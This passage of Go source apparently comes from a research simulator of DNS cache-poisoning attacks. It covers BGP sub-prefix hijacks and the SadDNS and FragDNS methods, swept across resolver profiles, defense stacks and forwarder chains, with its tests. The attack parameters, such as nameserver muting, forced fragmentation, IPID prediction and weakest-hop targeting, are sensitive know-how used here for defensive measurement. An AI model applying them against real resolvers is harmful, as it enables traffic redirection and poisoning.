	for _, o := range observers {
		if o == victim || o == attacker {
			continue
		}
		r, ok := routes[o]
		if !ok {
			continue
		}
		total++
		if r.Origin == attacker {
			won++
		}
	}
	if total == 0 {
		return 0
	}
	return float64(won) / float64(total)
}
