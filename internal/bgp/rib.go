package bgp

import (
	"net/netip"
	"sort"
)

// RIB is the global routing state the packet simulator consults: the
// set of live announcements plus, per announced prefix, the route each
// AS selected. Longest-prefix-match across prefixes happens at
// forwarding time, which is what makes sub-prefix hijacks win
// globally: a /24 inside a victim /22 beats the /22 for every AS that
// accepts it, regardless of policy.
type RIB struct {
	topo    *Topology
	roaView ROAView
	// announcements grouped by prefix (a prefix can have several
	// origins during a same-prefix hijack).
	anns   map[netip.Prefix][]Announcement
	routes map[netip.Prefix]map[ASN]Route
	// prefixes sorted by descending length for LPM.
	sorted []netip.Prefix
	// MaxAcceptedLen models the common "/24 or shorter" filter: the
	// paper's sub-prefix analysis assumes announcements more specific
	// than /24 are filtered Internet-wide. 0 disables the filter.
	MaxAcceptedLen int
}

// NewRIB returns a RIB over topo. roaView may be nil.
func NewRIB(topo *Topology, roaView ROAView) *RIB {
	return &RIB{
		topo:           topo,
		roaView:        roaView,
		anns:           make(map[netip.Prefix][]Announcement),
		routes:         make(map[netip.Prefix]map[ASN]Route),
		MaxAcceptedLen: 24,
	}
}

// SetROAView replaces the per-AS ROA supplier (e.g. after an RPKI
// relying party is poisoned) and forces reconvergence.
func (r *RIB) SetROAView(v ROAView) {
	r.roaView = v
	r.reconverge()
}

// Announce adds an origination and reconverges the affected prefix.
// Announcements more specific than MaxAcceptedLen are dropped, exactly
// like real-world /25+ filters.
func (r *RIB) Announce(prefix netip.Prefix, origin ASN) bool {
	if r.MaxAcceptedLen > 0 && prefix.Bits() > r.MaxAcceptedLen {
		return false
	}
	prefix = prefix.Masked()
	for _, a := range r.anns[prefix] {
		if a.Origin == origin {
			return true
		}
	}
	if len(r.anns[prefix]) == 0 {
		r.sorted = append(r.sorted, prefix)
		sort.Slice(r.sorted, func(i, j int) bool { return r.sorted[i].Bits() > r.sorted[j].Bits() })
	}
	r.anns[prefix] = append(r.anns[prefix], Announcement{Prefix: prefix, Origin: origin})
	r.converge(prefix)
	return true
}

// Withdraw removes an origination.
func (r *RIB) Withdraw(prefix netip.Prefix, origin ASN) {
	prefix = prefix.Masked()
	anns := r.anns[prefix]
	for i, a := range anns {
		if a.Origin == origin {
			r.anns[prefix] = append(anns[:i], anns[i+1:]...)
			break
		}
	}
	if len(r.anns[prefix]) == 0 {
		delete(r.anns, prefix)
		delete(r.routes, prefix)
		for i, p := range r.sorted {
			if p == prefix {
				r.sorted = append(r.sorted[:i], r.sorted[i+1:]...)
				break
			}
		}
		return
	}
	r.converge(prefix)
}

func (r *RIB) converge(prefix netip.Prefix) {
	r.routes[prefix] = r.topo.Propagate(r.anns[prefix], r.roaView)
}

func (r *RIB) reconverge() {
	for p := range r.anns {
		r.converge(p)
	}
}

// RIBSnapshot captures a RIB's announcement set so trial-reset can
// restore routing to its post-build state (an attack that announced a
// hijack and crashed mid-withdraw must not leak routes into the next
// trial).
type RIBSnapshot struct {
	anns   map[netip.Prefix][]Announcement
	sorted []netip.Prefix
}

// Snapshot copies the current announcement set.
func (r *RIB) Snapshot() *RIBSnapshot {
	s := &RIBSnapshot{
		anns:   make(map[netip.Prefix][]Announcement, len(r.anns)),
		sorted: append([]netip.Prefix(nil), r.sorted...),
	}
	for p, anns := range r.anns {
		s.anns[p] = append([]Announcement(nil), anns...)
	}
	return s
}

// Restore rewinds the RIB to a snapshot. When the live announcement
// set already matches (the common case — attacks withdraw what they
// announce), this is a comparison and nothing else: no reconvergence,
// no allocation. Otherwise announcements and LPM order are restored
// verbatim and every prefix reconverges.
func (r *RIB) Restore(s *RIBSnapshot) {
	if r.matches(s) {
		return
	}
	clear(r.anns)
	for p, anns := range s.anns {
		r.anns[p] = append([]Announcement(nil), anns...)
	}
	r.sorted = append(r.sorted[:0], s.sorted...)
	clear(r.routes)
	r.reconverge()
}

// matches reports whether the live announcement set equals the
// snapshot, including per-prefix announcement order (order is
// selection-relevant tie-break state).
func (r *RIB) matches(s *RIBSnapshot) bool {
	if len(r.anns) != len(s.anns) {
		return false
	}
	for p, anns := range r.anns {
		want, ok := s.anns[p]
		if !ok || len(anns) != len(want) {
			return false
		}
		for i := range anns {
			if anns[i] != want[i] {
				return false
			}
		}
	}
	return true
}

// Prefixes returns all announced prefixes (longest first).
func (r *RIB) Prefixes() []netip.Prefix { return append([]netip.Prefix(nil), r.sorted...) }

// CoveringAnnouncement returns the longest announced prefix containing
// ip, for vulnerability analysis ("is this resolver inside a >/24-able
// block?").
func (r *RIB) CoveringAnnouncement(ip netip.Addr) (netip.Prefix, bool) {
	for _, p := range r.sorted {
		if p.Contains(ip) {
			return p, true
		}
	}
	return netip.Prefix{}, false
}

// Resolve returns the origin AS that traffic from fromAS toward ip
// reaches, using longest-prefix-match then fromAS's selected route.
func (r *RIB) Resolve(fromAS ASN, ip netip.Addr) (ASN, bool) {
	for _, p := range r.sorted {
		if !p.Contains(ip) {
			continue
		}
		routes := r.routes[p]
		if route, ok := routes[fromAS]; ok {
			return route.Origin, true
		}
		// fromAS has no route for the most specific prefix (e.g. it
		// rejected a hijack via ROV); fall through to a less specific
		// covering prefix.
	}
	return 0, false
}

// RouteOf returns fromAS's selected route for the given announced
// prefix.
func (r *RIB) RouteOf(fromAS ASN, prefix netip.Prefix) (Route, bool) {
	routes, ok := r.routes[prefix.Masked()]
	if !ok {
		return Route{}, false
	}
	rt, ok := routes[fromAS]
	return rt, ok
}
