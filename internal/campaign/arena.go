package campaign

import "sync"

// ArenaPool recycles trial workers — each carrying a warmed wire-buffer
// arena and sample slices — across campaign runs in one resident
// process. Within a run each worker is owned by exactly one engine
// goroutine (pool.Wire is single-goroutine by design); the pool only
// hands a worker out again after the run that used it has fully
// completed, so cross-run reuse never races.
//
// Reuse is invisible in results by the same argument engine.Resettable
// makes within a run: Reset rewinds the sample slices before every
// cell, and the wire arena's buffers carry capacity, not state.
type ArenaPool struct {
	// MaxArenaBytes bounds the wire-buffer capacity a worker retains
	// while parked in the pool (largest buffers dropped first); 0
	// means DefaultMaxArenaBytes. The bound applies when a run returns
	// its workers, so a job that briefly needed big frag-attack
	// buffers does not pin them for the lifetime of the server.
	MaxArenaBytes int
	// MaxPoolNodes bounds the clock-event and delivery-node freelist
	// retention of a parked worker the same way (a flood-heavy sweep
	// parks tens of thousands of nodes); 0 means DefaultMaxPoolNodes.
	MaxPoolNodes int

	mu   sync.Mutex
	free []*trialWorker
}

// DefaultMaxArenaBytes is the per-worker retained-capacity bound used
// when ArenaPool.MaxArenaBytes is zero: enough to keep the steady-state
// DNS-sized working set warm, small enough that a fleet of workers
// stays in cache-friendly territory between jobs.
const DefaultMaxArenaBytes = 1 << 20

// DefaultMaxPoolNodes is the per-worker retained-node bound (clock
// events and delivery nodes each) used when ArenaPool.MaxPoolNodes is
// zero: comfortably above the steady-state working set of a trial,
// far below what one flood burst can park.
const DefaultMaxPoolNodes = 1 << 12

// arenaLease tracks the workers one run borrowed so endRun can return
// exactly those, after the engine's goroutines have all finished.
type arenaLease struct {
	pool   *ArenaPool
	mu     sync.Mutex
	handed []*trialWorker
}

func (p *ArenaPool) beginRun() *arenaLease { return &arenaLease{pool: p} }

// get borrows a parked worker (or makes a fresh one). Called from
// engine worker goroutines via RunWorkers' newState hook.
func (l *arenaLease) get() *trialWorker {
	l.pool.mu.Lock()
	var w *trialWorker
	if n := len(l.pool.free); n > 0 {
		w = l.pool.free[n-1]
		l.pool.free[n-1] = nil
		l.pool.free = l.pool.free[:n-1]
	}
	l.pool.mu.Unlock()
	if w == nil {
		w = newTrialWorker()
	}
	l.mu.Lock()
	l.handed = append(l.handed, w)
	l.mu.Unlock()
	return w
}

// endRun parks the run's workers back in the pool, trimming each
// worker's wire arena and node freelists to their retained-capacity
// bounds. Must only run after the engine call that used the lease has
// returned (all worker goroutines joined).
func (l *arenaLease) endRun() {
	maxBytes := l.pool.MaxArenaBytes
	if maxBytes <= 0 {
		maxBytes = DefaultMaxArenaBytes
	}
	maxNodes := l.pool.MaxPoolNodes
	if maxNodes <= 0 {
		maxNodes = DefaultMaxPoolNodes
	}
	l.mu.Lock()
	handed := l.handed
	l.handed = nil
	l.mu.Unlock()
	for _, w := range handed {
		w.wire.Trim(maxBytes)
		w.events.Trim(maxNodes)
		w.deliv.Trim(maxNodes)
	}
	l.pool.mu.Lock()
	l.pool.free = append(l.pool.free, handed...)
	l.pool.mu.Unlock()
}
