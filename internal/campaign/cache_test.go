package campaign_test

import (
	"reflect"
	"sync"
	"testing"

	"crosslayer/internal/campaign"
	"crosslayer/internal/measure"
)

// memCellCache is a mutex-map CellCache counting hits and stores.
type memCellCache struct {
	mu     sync.Mutex
	m      map[string]campaign.CellResult
	hits   int
	stores int
}

func newMemCellCache() *memCellCache {
	return &memCellCache{m: make(map[string]campaign.CellResult)}
}

func (c *memCellCache) Lookup(key string) (campaign.CellResult, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	r, ok := c.m[key]
	if ok {
		c.hits++
	}
	return r, ok
}

func (c *memCellCache) Store(key string, r campaign.CellResult) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.m[key] = r
	c.stores++
}

func (c *memCellCache) counts() (hits, stores int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.hits, c.stores
}

// cacheTestConfig is a small two-axis sweep used by the cache tests.
func cacheTestConfig(parallelism int) campaign.Config {
	return campaign.Config{
		Exec: measure.Config{Seed: 11, Parallelism: parallelism},
		Filter: campaign.Filter{
			Methods:     []string{"hijack"},
			Victims:     []string{"web", "smtp"},
			Profiles:    []string{"bind", "dnsmasq"},
			ChainDepths: []string{"0"},
			Placements:  []string{"stub"},
		},
		Trials:      2,
		LatticeRank: 1,
	}
}

// TestCampaignCachedRunByteIdentical: a warm-cache run recomputes
// nothing and its results — raw cells AND rendered matrix bytes — are
// identical to the cold run's, at parallelism 1 and N.
func TestCampaignCachedRunByteIdentical(t *testing.T) {
	uncached, err := campaign.Run(cacheTestConfig(1))
	if err != nil {
		t.Fatal(err)
	}
	ref := campaign.Matrix(uncached).String()

	for _, p := range []int{1, 4} {
		cache := newMemCellCache()
		cfg := cacheTestConfig(p)
		cfg.Cache = cache
		cold, err := campaign.Run(cfg)
		if err != nil {
			t.Fatal(err)
		}
		if hits, stores := cache.counts(); hits != 0 || stores != len(cold) {
			t.Fatalf("p=%d cold run: %d hits, %d stores, want 0 and %d", p, hits, stores, len(cold))
		}
		warm, err := campaign.Run(cfg)
		if err != nil {
			t.Fatal(err)
		}
		if hits, stores := cache.counts(); hits != len(cold) || stores != len(cold) {
			t.Fatalf("p=%d warm run: %d hits (want %d), %d new stores (want 0)",
				p, hits, len(cold), stores-len(cold))
		}
		if !reflect.DeepEqual(cold, uncached) {
			t.Fatalf("p=%d cold cached run diverges from uncached reference", p)
		}
		if !reflect.DeepEqual(warm, uncached) {
			t.Fatalf("p=%d warm cached run diverges from uncached reference", p)
		}
		if got := campaign.Matrix(warm).String(); got != ref {
			t.Fatalf("p=%d warm matrix bytes diverge:\n--- reference\n%s\n--- warm\n%s", p, ref, got)
		}
	}
}

// TestCampaignCacheSharedAcrossOverlappingSweeps: two filtered sweeps
// sharing cells recompute only the non-overlapping ones, and the
// shared cells come back byte-identical to an independent run of the
// second sweep.
func TestCampaignCacheSharedAcrossOverlappingSweeps(t *testing.T) {
	cache := newMemCellCache()

	first := cacheTestConfig(2)
	first.Filter.Profiles = []string{"bind"}
	first.Cache = cache
	if _, err := campaign.Run(first); err != nil {
		t.Fatal(err)
	}
	_, storesAfterFirst := cache.counts()

	second := cacheTestConfig(2)
	second.Cache = cache // full two-profile sweep: bind cells overlap
	got, err := campaign.Run(second)
	if err != nil {
		t.Fatal(err)
	}
	hits, stores := cache.counts()
	if hits != storesAfterFirst {
		t.Fatalf("overlap recomputed: %d hits, want %d (every first-sweep cell)", hits, storesAfterFirst)
	}
	if newStores := stores - storesAfterFirst; newStores != len(got)-hits {
		t.Fatalf("stored %d new cells, want %d", newStores, len(got)-hits)
	}

	independent := cacheTestConfig(2)
	ref, err := campaign.Run(independent)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, ref) {
		t.Fatal("cache-assembled sweep diverges from independent run")
	}
}

// TestCampaignArenaPoolReuseInvisible: runs sharing an ArenaPool must
// produce exactly the results of runs that don't — worker reuse is an
// allocator optimisation, never an observable.
func TestCampaignArenaPoolReuseInvisible(t *testing.T) {
	ref, err := campaign.Run(cacheTestConfig(2))
	if err != nil {
		t.Fatal(err)
	}
	arenas := &campaign.ArenaPool{}
	for i := 0; i < 3; i++ {
		cfg := cacheTestConfig(2)
		cfg.Arenas = arenas
		got, err := campaign.Run(cfg)
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(got, ref) {
			t.Fatalf("run %d with pooled arenas diverges from reference", i)
		}
	}
}
