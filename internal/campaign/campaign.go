// Package campaign sweeps the full attack space the paper only
// samples: every §3 methodology against every Table 1 application
// victim, under every Table 5 resolver implementation profile, for
// every defense SET of the stacking lattice (§6 countermeasures
// composed, not just switched on one at a time), at every
// forwarder-chain depth, from both attacker placements — a method ×
// victim × profile × defense-set × chain-depth × placement
// cross-product executed as independent simulation cells on the
// sharded experiment engine.
//
// The paper demonstrates each victim against one hand-picked method
// (Table 1) and compares the methods on one canonical scenario
// (Table 6); the interesting results live in the combinations. Each
// cell of the sweep builds a private scenario (its own clock,
// network, BGP topology), deploys the victim application, runs the
// attack end-to-end, checks the cache ground truth, and then
// exercises the application to observe the actual impact.
//
// Determinism contract: a cell's seed derives from the BASE SEED and
// the cell's identity key (method/victim/profile/defense), never from
// its position in the sweep. Output is therefore byte-identical for
// any Parallelism, and a filtered sweep reproduces exactly the cells
// of the full sweep.
package campaign

import (
	"fmt"
	"net/netip"
	"sort"
	"strconv"
	"strings"

	"crosslayer/internal/apps"
	"crosslayer/internal/core"
	"crosslayer/internal/deploy"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/measure"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
)

// Attack-effort knobs shared by every cell. They bound the per-cell
// simulation cost so the full 750-cell product stays tractable; the
// bounds are generous enough that every method converges on its
// vulnerable cells.
const (
	// sadPortRange is the resolver ephemeral-port span SadDNS scans
	// per cell (the paper's resolvers expose ~28k ports; the scan cost
	// is linear in the range and the side channel identical).
	sadPortRange = 256
	// sadMaxIterations bounds SadDNS query triggers per trial.
	sadMaxIterations = 3
	// fragIPIDGuesses is the planted-fragment window per iteration.
	fragIPIDGuesses = 16
	// fragMaxIterations bounds FragDNS triggers per trial.
	fragMaxIterations = 4
)

// Method is one registered poisoning methodology: how to open its
// attack surface on a scenario under construction, and how to build
// the runnable attack against a target name.
type Method struct {
	// Key is the stable identifier used in filters and matrices.
	Key string
	// Name is the display form.
	Name string
	// Prepare mutates the scenario config to open the method's attack
	// surface (e.g. SadDNS needs the nameserver's RRL as its muting
	// lever, FragDNS needs responses large enough to fragment). It
	// runs BEFORE the cell's defense is applied, so defenses always
	// get the last word.
	Prepare func(cfg *scenario.Config)
	// New builds the attack against qname on an assembled scenario.
	New func(s *scenario.S, qname string) core.Attack
}

// Methods returns the methodology registry in paper order (§3.1-3.3).
func Methods() []Method {
	return []Method{
		{
			Key: "hijack", Name: "HijackDNS",
			Prepare: func(cfg *scenario.Config) {},
			New: func(s *scenario.S, qname string) core.Attack {
				return &core.HijackDNS{
					Attacker:     s.Attacker,
					HijackPrefix: netip.MustParsePrefix("123.0.0.0/24"),
					NSAddr:       scenario.NSIP,
					Spoof: core.Spoof{QName: qname, QType: dnswire.TypeA,
						Records: []*dnswire.RR{dnswire.NewA(qname, 300, scenario.AttackerIP)}},
				}
			},
		},
		{
			Key: "saddns", Name: "SadDNS",
			Prepare: func(cfg *scenario.Config) {
				cfg.ServerCfg.RateLimit = true
				cfg.ServerCfg.RateLimitQPS = 10
			},
			New: func(s *scenario.S, qname string) core.Attack {
				s.ResolverHost.Cfg.PortMin = 32768
				s.ResolverHost.Cfg.PortMax = 32768 + sadPortRange - 1
				// Target the chain's weakest hop: a forwarder's tiny
				// ephemeral range beats the resolver's, and injecting
				// there bypasses every resolver-side defense. The
				// nameserver stays the mute target either way — with it
				// silenced the whole chain keeps its sockets open.
				target := core.WeakestPortHop(chainHops(s))
				return &core.SadDNS{
					Attacker:     s.Attacker,
					ResolverAddr: target.Addr,
					NSAddr:       scenario.NSIP,
					SpoofSource:  target.Upstream,
					Spoof: core.Spoof{QName: qname, QType: dnswire.TypeA,
						Records: []*dnswire.RR{dnswire.NewA(qname, 300, scenario.AttackerIP)}},
					PortMin: target.Host.Cfg.PortMin, PortMax: target.Host.Cfg.PortMax,
					MuteQPS:       2 * s.NS.Cfg.RateLimitQPS,
					MaxIterations: sadMaxIterations,
					CheckSuccess:  func() bool { return s.ChainPoisoned(qname, dnswire.TypeA) },
				}
			},
		},
		{
			Key: "frag", Name: "FragDNS",
			Prepare: func(cfg *scenario.Config) {
				cfg.ServerCfg.PadAnswersTo = 1200
			},
			New: func(s *scenario.S, qname string) core.Attack {
				// Fragmentation only pays at the hop whose upstream emits
				// padded authoritative responses — the recursive resolver
				// (core.FragmentationHop); the poisoned record still
				// floods every per-hop cache on the way back down.
				target := core.FragmentationHop(chainHops(s))
				return &core.FragDNS{
					Attacker:     s.Attacker,
					ResolverAddr: target.Addr,
					NSAddr:       target.Upstream,
					QName:        qname, QType: dnswire.TypeA,
					SpoofAddr:    scenario.AttackerIP,
					ForcedMTU:    68,
					ResolverEDNS: s.Resolver.Prof.EDNSSize,
					ResolverDO:   s.Resolver.Prof.ValidateDNSSEC,
					PredictIPID:  true, IPIDGuesses: fragIPIDGuesses,
					MaxIterations: fragMaxIterations,
					CheckSuccess:  func() bool { return s.ChainPoisoned(qname, dnswire.TypeA) },
				}
			},
		},
	}
}

// chainHops converts the scenario's resolution chain into the attack
// layer's hop model.
func chainHops(s *scenario.S) []core.Hop {
	sh := s.Hops()
	hops := make([]core.Hop, len(sh))
	for i, h := range sh {
		hops[i] = core.Hop{Host: h.Host, Addr: h.Addr, Upstream: h.Upstream, Last: i == len(sh)-1,
			UDPUpstream: h.UDPUpstream, Opportunistic: h.Opportunistic, ForceDowngrade: h.ForceDowngrade}
	}
	return hops
}

// ProfileEntry binds a filter key to a Table 5 resolver profile.
type ProfileEntry struct {
	Key     string
	Profile resolver.Profile
}

// Profiles returns the resolver implementation registry in Table 5
// order.
func Profiles() []ProfileEntry {
	return []ProfileEntry{
		{Key: "bind", Profile: resolver.ProfileBIND},
		{Key: "unbound", Profile: resolver.ProfileUnbound},
		{Key: "powerdns", Profile: resolver.ProfilePowerDNS},
		{Key: "systemd", Profile: resolver.ProfileSystemd},
		{Key: "dnsmasq", Profile: resolver.ProfileDnsmasq},
	}
}

// DepthEntry binds a filter key to a forwarder-chain configuration:
// how many open forwarders the victim's queries ride through before
// the recursive resolver, and each hop's behaviour. The canonical
// chains model the §4.3 population: entry hops are bigger boxes
// (larger port spans, name-match filtering), inner hops are embedded
// CPE devices with tiny port spans and no filtering — the weakest-hop
// candidates the attacks hunt for.
type DepthEntry struct {
	// Key is the stable identifier used in filters and seeds ("0".."3").
	Key string
	// Depth is the number of forwarder hops.
	Depth int
	// Chain is the per-hop specification handed to the scenario
	// (Chain[0] is the entry hop the client queries).
	Chain []scenario.ForwarderSpec
}

// ChainDepths returns the chain-depth registry: depth 0 (the client
// queries the resolver directly — every pre-chain campaign cell) up to
// depth 3.
func ChainDepths() []DepthEntry {
	return []DepthEntry{
		{Key: "0", Depth: 0},
		{Key: "1", Depth: 1, Chain: []scenario.ForwarderSpec{
			{}, // one CPE hop: default tiny port span, no bailiwick filter
		}},
		{Key: "2", Depth: 2, Chain: []scenario.ForwarderSpec{
			{PortSpan: 512, CheckBailiwick: true}, // entry: bigger box, filters
			{},                                    // inner CPE: the weak hop
		}},
		{Key: "3", Depth: 3, Chain: []scenario.ForwarderSpec{
			{PortSpan: 512, CheckBailiwick: true},
			{TTLCap: 60}, // mid hop ages cached records out fast
			{},
		}},
	}
}

// PlacementEntry binds a filter key to an attacker placement.
type PlacementEntry struct {
	Key       string
	Name      string
	Placement scenario.Placement
}

// Placements returns the attacker-placement registry: the stub-adjacent
// default and the carrier-AS position (reusing the internal/bgp path
// position: the carrier originates the attacker prefix from tier 2 and
// reaches every target over backbone latency).
func Placements() []PlacementEntry {
	return []PlacementEntry{
		{Key: "stub", Name: "stub-adjacent attacker", Placement: scenario.PlacementStub},
		{Key: "carrier", Name: "carrier-AS attacker", Placement: scenario.PlacementCarrier},
	}
}

// TransportEntry binds a filter key to a chain-wide upstream-transport
// assignment: what the forwarder hops speak upstream and what the
// recursive resolver speaks toward the authoritative nameserver. The
// registry spans the deployment space the encrypted-transport story
// needs: an all-plaintext baseline, each strict encrypted transport,
// the incremental-deployment "mixed" case (plaintext front hop in
// front of an encrypted recursive — the configuration that silently
// re-opens the off-path attacks), and an opportunistic chain the
// active downgrade attack can strip.
type TransportEntry struct {
	Key  string
	Name string
	// Resolver is the recursive resolver's upstream transport.
	Resolver resolver.Transport
	// Forwarder is every forwarder hop's upstream transport.
	Forwarder resolver.Transport
	// Opportunistic marks every hop opportunistic: encrypted upstream
	// sessions fall back to plaintext UDP when they fail.
	Opportunistic bool
}

// Transports returns the transport-axis registry.
func Transports() []TransportEntry {
	return []TransportEntry{
		{Key: "udp", Name: "plaintext UDP (baseline)"},
		{Key: "tcp", Name: "DNS over TCP",
			Resolver: resolver.TransportTCP, Forwarder: resolver.TransportTCP},
		{Key: "dot", Name: "DNS over TLS (strict)",
			Resolver: resolver.TransportDoT, Forwarder: resolver.TransportDoT},
		{Key: "doh", Name: "DNS over HTTPS (strict)",
			Resolver: resolver.TransportDoH, Forwarder: resolver.TransportDoH},
		{Key: "doq", Name: "DNS over QUIC (strict)",
			Resolver: resolver.TransportDoQ, Forwarder: resolver.TransportDoQ},
		{Key: "mixed", Name: "plaintext front hop, encrypted recursive",
			Resolver: resolver.TransportDoT, Forwarder: resolver.TransportUDP},
		{Key: "opp", Name: "opportunistic DoT chain",
			Resolver: resolver.TransportDoT, Forwarder: resolver.TransportDoT,
			Opportunistic: true},
	}
}

// DeploymentEntry binds a filter key to a deployment population —
// the deploy.Dataset every cell under this axis value samples its
// concrete worlds from.
type DeploymentEntry struct {
	Key     string
	Name    string
	Dataset deploy.Dataset
}

// Deployments returns the deployment-dataset registry (the
// deploy.Datasets registry in sweep order: canonical first, then the
// sampled populations).
func Deployments() []DeploymentEntry {
	ds := deploy.Datasets()
	out := make([]DeploymentEntry, len(ds))
	for i, d := range ds {
		out[i] = DeploymentEntry{Key: d.Key, Name: d.Name, Dataset: d}
	}
	return out
}

// Filter restricts the cross-product to the named registry keys; an
// empty dimension means "all". Keys are matched case-insensitively.
type Filter struct {
	Methods  []string
	Victims  []string
	Profiles []string
	// Defenses restricts the BASE defenses the stacking lattice is
	// generated from (see DefenseSets); "none" is accepted and
	// contributes nothing, since the undefended baseline is always
	// part of the lattice. Mutually exclusive with DefenseSets.
	Defenses []string
	// DefenseSets picks exact defense stacks by canonical set key
	// ("none", "0x20", "0x20+shuffle", ...; component order and case
	// are normalised) out of the full power set, regardless of the
	// configured lattice rank. Mutually exclusive with Defenses.
	DefenseSets []string
	ChainDepths []string
	Placements  []string
	Transports  []string
	// Deployments restricts the deployment-dataset axis. UNLIKE every
	// other dimension, empty means the canonical dataset only — not
	// "all": sampled populations answer a different (and strictly
	// additional) question, so sweeping them is an explicit opt-in and
	// every pre-existing sweep keeps its exact cell plan and trial
	// populations.
	Deployments []string
}

// Config controls a campaign sweep.
type Config struct {
	// Exec carries the engine execution knobs. Seed selects the
	// population of per-cell trials, Parallelism/Progress schedule and
	// observe the sweep, and SampleCap caps Trials. ShardSize is
	// ignored: every cell is its own shard by construction.
	Exec measure.Config
	// Filter restricts the cross-product.
	Filter Filter
	// Trials is the number of independently seeded attack runs per
	// cell (the sample behind the success-rate and cost percentiles);
	// 0 means DefaultTrials.
	Trials int
	// LatticeRank bounds the defense-set axis: every stack of up to
	// LatticeRank base defenses is swept (1 reproduces the historical
	// scalar axis, len(BaseDefenses) the full power set). 0 means the
	// default lattice — rank DefaultLatticeRank plus the full stack.
	LatticeRank int
	// Cache, when non-nil, memoizes cell results across runs by their
	// full identity (CellKey): a cell already present is returned
	// without simulating, a freshly computed cell is stored back.
	// Sound because cells are identity-seeded — the cached value is
	// byte-identical to what a recomputation would produce.
	Cache CellCache
	// Arenas, when non-nil, recycles per-worker scratch (wire-buffer
	// arenas, sample slices) across runs: a resident server sweeps
	// many jobs without rebuilding warmed allocator state per job.
	Arenas *ArenaPool
	// Downgrade runs every cell under active downgrade pressure: each
	// trial's attack is wrapped in core.Downgrade, which strips
	// opportunistic hops back to plaintext UDP before the inner attack
	// picks its target. It is a sweep-level condition, not an axis —
	// cells keep their identity seeds so a downgraded sweep is the
	// paired experiment of the plain one — but cached results gain a
	// "/downgrade" key marker so the two conditions never collide.
	Downgrade bool
	// forceFreshBuild reverts runCell to the legacy build-a-world-per-
	// trial lifecycle instead of build-once/Reset-per-trial. Only the
	// differential equivalence tests set it: the two lifecycles must
	// produce byte-identical results, and this is the lever that
	// proves it.
	forceFreshBuild bool
}

// CellCache memoizes CellResults across campaign runs, keyed by
// CellKey. Implementations must be safe for concurrent use: the
// engine's workers look up and store cells in parallel.
type CellCache interface {
	Lookup(key string) (CellResult, bool)
	Store(key string, r CellResult)
}

// CellKey is the full memoization identity of a cell's measured
// result: the base seed and trial count (which select the trial
// population) joined with the cell's identity key (which the per-trial
// seeds derive from). Two sweeps agreeing on this string compute
// byte-identical CellResults regardless of filtering, lattice rank,
// parallelism or scheduling — the content-addressing contract the
// resident server's cache and checkpoints are built on.
func CellKey(seed int64, trials int, c Cell) string {
	return strconv.FormatInt(seed, 10) + "/" + strconv.Itoa(trials) + "/" + c.Key()
}

// DefaultTrials is the per-cell sample size used when Config.Trials
// is zero.
const DefaultTrials = 3

// Cell is one point of the cross-product.
type Cell struct {
	Method     Method
	Victim     apps.Victim
	Profile    ProfileEntry
	Defenses   DefenseSet
	Depth      DepthEntry
	Placement  PlacementEntry
	Transport  TransportEntry
	Deployment DeploymentEntry
}

// Key returns the cell's stable identity
// ("method/victim/profile/defense-set/depth/placement/transport") —
// the string its seed derives from. The defense component is the
// set's canonical key, so a singleton set keeps the exact identity
// (and therefore the exact trial population) of the historical scalar
// axis. By the same argument the deployment component appears only
// for sampled datasets ("/measured", "/hardened"): a canonical cell's
// key — and therefore its seed and trial population — is exactly the
// pre-deployment-axis identity.
func (c Cell) Key() string {
	k := c.Method.Key + "/" + c.Victim.Key + "/" + c.Profile.Key + "/" + c.Defenses.Key +
		"/" + c.Depth.Key + "/" + c.Placement.Key + "/" + c.Transport.Key
	if !c.Deployment.Dataset.Canonical() {
		k += "/" + c.Deployment.Key
	}
	return k
}

// Cells plans the (filtered) cross-product at the default lattice
// rank; see CellsAtRank.
func Cells(f Filter) ([]Cell, error) { return CellsAtRank(f, 0) }

// CellsAtRank plans the (filtered) cross-product in deterministic
// order: methods, then victims, then profiles, then defense sets (the
// stacking lattice bounded by latticeRank — see DefenseSets), then
// chain depths, then placements, then transports, then deployment
// datasets (innermost), each in registry order. Unknown filter keys
// are an error, not a silent empty sweep.
func CellsAtRank(f Filter, latticeRank int) ([]Cell, error) {
	methods, err := selected("method", Methods(), func(m Method) string { return m.Key }, f.Methods)
	if err != nil {
		return nil, err
	}
	victims, err := selected("victim", apps.Victims(), func(v apps.Victim) string { return v.Key }, f.Victims)
	if err != nil {
		return nil, err
	}
	profiles, err := selected("profile", Profiles(), func(p ProfileEntry) string { return p.Key }, f.Profiles)
	if err != nil {
		return nil, err
	}
	defenses, err := defenseAxis(f, latticeRank)
	if err != nil {
		return nil, err
	}
	depths, err := selected("chain-depth", ChainDepths(), func(d DepthEntry) string { return d.Key }, f.ChainDepths)
	if err != nil {
		return nil, err
	}
	placements, err := selected("placement", Placements(), func(p PlacementEntry) string { return p.Key }, f.Placements)
	if err != nil {
		return nil, err
	}
	transports, err := selected("transport", Transports(), func(t TransportEntry) string { return t.Key }, f.Transports)
	if err != nil {
		return nil, err
	}
	deployments, err := selectedDeployments(f.Deployments)
	if err != nil {
		return nil, err
	}
	var cells []Cell
	for _, m := range methods {
		for _, v := range victims {
			for _, p := range profiles {
				for _, d := range defenses {
					for _, dep := range depths {
						for _, pl := range placements {
							for _, tr := range transports {
								for _, dpl := range deployments {
									cells = append(cells, Cell{Method: m, Victim: v, Profile: p,
										Defenses: d, Depth: dep, Placement: pl, Transport: tr,
										Deployment: dpl})
								}
							}
						}
					}
				}
			}
		}
	}
	return cells, nil
}

// selectedDeployments resolves the deployment-axis filter. An empty
// filter plans the canonical dataset only (see Filter.Deployments);
// unknown keys fail with the registry's valid-key list like every
// other axis.
func selectedDeployments(want []string) ([]DeploymentEntry, error) {
	if len(want) == 0 {
		want = []string{deploy.CanonicalKey}
	}
	return selected("deployment", Deployments(), func(d DeploymentEntry) string { return d.Key }, want)
}

// selected returns the registry entries matching the wanted keys (all
// entries when want is empty), preserving registry order. Unknown keys
// fail with the dimension's full valid-key list, so a CLI typo tells
// the user what the registry actually offers.
func selected[T any](dim string, all []T, key func(T) string, want []string) ([]T, error) {
	if len(want) == 0 {
		return all, nil
	}
	wanted := map[string]bool{}
	for _, w := range want {
		w = strings.ToLower(strings.TrimSpace(w))
		if w != "" {
			wanted[w] = true
		}
	}
	if len(wanted) == 0 {
